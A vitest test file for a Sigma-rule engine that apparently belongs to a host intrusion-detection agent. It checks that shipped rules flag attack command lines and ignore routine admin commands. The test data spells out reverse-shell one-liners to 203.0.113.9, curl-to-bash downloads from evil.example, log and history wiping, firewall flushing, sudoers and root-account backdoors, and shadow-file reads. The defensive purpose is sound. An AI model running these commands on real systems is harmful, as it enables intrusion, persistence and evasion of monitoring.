import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { normalise } from '#shared/sigma/normalise.ts'
import { createSigmaEngine } from '#shared/sigma/sigma.ts'
import { sigmaEventOf } from '../../../../agent/sense/processes/process-start.ts'
import { loadRules } from '../../../../server/cli/sigma/load.ts'

/* The rules that ship, on programs that start as the sweep of /proc or auditd tells of them. */
const set = await loadRules(join(import.meta.dirname, '../../../../agent/sense/sigma/rules'), {})

function filesFor(
  commandLine: string,
  image = `/usr/bin/${commandLine.split(' ')[0]?.split('/').at(-1)}`,
  parentCommandLine = '-bash',
): string[] {
  const start = {
    ...{ at: 0, pid: 9, parentPid: 8, image, commandLine, user: 'root', directory: '/', source: 'sweep' as const },
    ...{ parentImage: '/usr/bin/bash', parentCommandLine },
  }
  return createSigmaEngine(set)
    .judge(normalise(sigmaEventOf(start)), 0)
    .map(({ about }) => about.title)
}

const shell = 'A Program Hands A Shell To The Network'
const download = 'What Was Downloaded Is Run At Once'
const encoded = 'What Was Encoded Is Given To A Shell'
const defence = 'A Defence Is Stopped By A Command'
const logs = 'System Logs Are Wiped By A Command'
const history = "A Shell's History Is Switched Off"
const account = 'An Account Is Given Power By A Command'

describe('the rules that ship, on programs that start', () => {
  it.each<[string, string]>([
    ['bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1', shell],
    ['bash -c exec 5<>/dev/tcp/203.0.113.9/4444; cat <&5 | while read line; do $line 2>&5 >&5; done', shell],
    ['bash -c sh -i 5<> /dev/tcp/203.0.113.9/4444 0<&5 1>&5', shell],
    ['python3 -c import socket,subprocess,os;s=socket.socket();s.connect(("203.0.113.9",4444));os.dup2(s.fileno(),0);', shell],
    ['python3.11 -c import socket,pty;s=socket.socket();pty.spawn("/bin/sh")', shell],
    ['perl -e use Socket;$i="203.0.113.9";socket(S,PF_INET,SOCK_STREAM,6);exec("/bin/sh -i");', shell],
    ['php -r $s=fsockopen("203.0.113.9",4444);shell_exec("sh <&3");', shell],
    ['ruby -rsocket -e f=TCPSocket.open("203.0.113.9",4444).to_i;exec sprintf("/bin/sh -i <&%d",f)', shell],
    ['nc -e /bin/sh 203.0.113.9 4444', shell],
    ['ncat 203.0.113.9 4444 -e /bin/bash', shell],
    ['socat exec:bash,pty,stderr tcp:203.0.113.9:4444', shell],
    ['sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f', shell],
    ['sh -c mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.9:4444 > /tmp/s', shell],
    ['sh -c curl -s http://evil.example/x | bash', download],
    ['bash -c wget -qO- https://evil.example/x | sudo python3 -', download],
    ['bash -c bash <(curl -s https://evil.example/x)', download],
    ['bash -c sh -c "$(curl -fsSL https://evil.example/x)"', download],
    ['bash -c echo aWQ= | base64 -d | bash', encoded],
    ['bash -c echo 6964 | xxd -r -p | sh', encoded],
    ['bash -c {echo,aWQ=}|{base64,-d}|{bash,-i}', encoded],
    ['python3 -c import base64;exec(base64.b64decode("aWQ="))', encoded],
    ['setenforce 0', defence],
    ['systemctl stop auditd', defence],
    ['systemctl disable --now ufw', defence],
    ['systemctl --now mask clamav-daemon.service', defence],
    ['service rsyslog stop', defence],
    ['pkill -9 auditd', defence],
    ['auditctl -D', defence],
    ['aa-teardown', defence],
    ['iptables -F', 'The Firewall Is Emptied'],
    ['iptables -P INPUT ACCEPT', 'The Firewall Is Emptied'],
    ['nft flush ruleset', 'The Firewall Is Emptied'],
    ['ufw --force disable', 'The Firewall Is Emptied'],
    ['truncate -s 0 /var/log/auth.log', logs],
    ['shred -u /var/log/wtmp', logs],
    ['rm -rf /var/log/journal/abc', logs],
    ['ln -sf /dev/null /var/log/syslog', logs],
    ['dd if=/dev/null of=/var/log/secure', logs],
    ['sh -c cat /dev/null > /var/log/messages', logs],
    ['sh -c > /tmp/x; echo "" > /var/log/auth.log', logs],
    ['journalctl --rotate --vacuum-time=1s', logs],
    ['bash -c unset HISTFILE', history],
    ['bash -c export HISTFILE=/dev/null', history],
    ['ln -sf /dev/null /root/.bash_history', history],
    ['truncate -s0 /home/eve/.zsh_history', history],
    ['usermod -aG sudo eve', account],
    ['useradd -m -G wheel eve', account],
    ['gpasswd -a eve docker', account],
    ['adduser eve sudo', account],
    ['useradd -o -u 0 -d /root toor', account],
    ['sed -i s/^sudo:x:27:/sudo:x:27:eve/ /etc/group', account],
    ['bash -c echo "eve ALL=(ALL) NOPASSWD: ALL" >> /etc/sudoers', account],
    ['tee -a /etc/sudoers', account],
    ['cat /etc/shadow', 'The File Of Passwords Is Read By A Tool'],
    ['unshadow passwd shadow', 'The File Of Passwords Is Read By A Tool'],
    ['hydra -l root -P words ssh://192.0.2.1', 'A Tool That Guesses Passwords Or Searches For Weaknesses Is Started'],
    ['sh /tmp/linpeas.sh', 'A Tool That Guesses Passwords Or Searches For Weaknesses Is Started'],
    ['/tmp/x -o stratum+tcp://pool.example:3333 -u wallet', 'A Miner Is Started'],
    ['chattr -i /etc/passwd', 'A Guarded File Is Made Changeable'],
    ['bash -c echo /tmp/x.so > /etc/ld.so.preload', 'A Library Is Put Before All Others By A Command'],
    ['sh -c LD_PRELOAD=/tmp/x.so /usr/bin/id', 'A Library Is Put Before All Others By A Command'],
    ['insmod /tmp/x.ko', 'A Kernel Module Comes From A Folder Of Users'],
    ['bash -c echo ssh-ed25519 AAAA >> /root/.ssh/authorized_keys', 'A Key Is Written That Lets Somebody In'],
    ['sed -i s/^#PermitRootLogin.*/PermitRootLogin yes/ /etc/ssh/sshd_config', 'A Key Is Written That Lets Somebody In'],
    ['touch -r /bin/ls /usr/bin/evil', 'A File Of The System Is Given Another Time'],
  ])('fit an attack: %s', (commandLine, title) => expect(filesFor(commandLine)).toContain(title))

  it('fit an attack by a script that is called as package managers are', () =>
    expect(filesFor('systemctl stop auditd', undefined, 'bash /tmp/apt-captain.sh dpkg')).toContain(defence))

  it.each([
    'npm ci',
    'git gc --prune=now',
    'tar czf /backup/etc.tgz /etc',
    'gzip -r /srv/data',
    '7z a x.7z /srv/data',
    'apt-get install -y curl',
    'pgbench -c 4 -T 60',
    'make -j4 all',
    'gcc -c socket.c -o socket.o',
    'python3 -m http.server',
    'python3 /usr/bin/unattended-upgrade',
    'node /srv/app/server.js',
    'node -e require("net").connect(5432)',
    'sh -c curl -fsSL https://example.org/x -o /tmp/x',
    'bash -c base64 -d x > y',
    'systemctl restart auditd',
    'systemctl stop postgresql',
    'systemctl status ufw',
    'rm -rf /srv/build',
    'rm -f /var/log/app/old.log',
    'journalctl --vacuum-time=30d',
    'usermod -aG video eve',
    'useradd -r -s /usr/sbin/nologin app',
    'iptables -L -n',
    'iptables -F DOCKER-USER',
    'nft list ruleset',
    'touch -d 2020-01-01 /srv/build/x',
    'cat /etc/passwd',
    'grep root /etc/passwd',
    'nc -z db 5432',
    'bash -c echo > /dev/tcp/localhost/5432',
    'bash -c exec 3<>/dev/tcp/localhost/9000; echo -e "GET /health HTTP/1.1" >&3; cat <&3 | grep -q UP',
    'chattr +i /etc/resolv.conf',
    'ssh -o ControlMaster=auto root@db',
    'tail -f /var/log/auth.log',
    'less /var/log/syslog',
    'restic backup /etc',
  ])('say nothing of daily work: %s', (commandLine) => expect(filesFor(commandLine)).toEqual([]))

  it.each([
    ['usermod -aG root app', '/bin/sh /var/lib/dpkg/info/app.postinst configure'],
    ['rm -f /var/log/syslog.7.gz', '/usr/sbin/logrotate /etc/logrotate.conf'],
  ])('say nothing of a package’s own: %s', (commandLine, parent) => expect(filesFor(commandLine, undefined, parent)).toEqual([]))
})
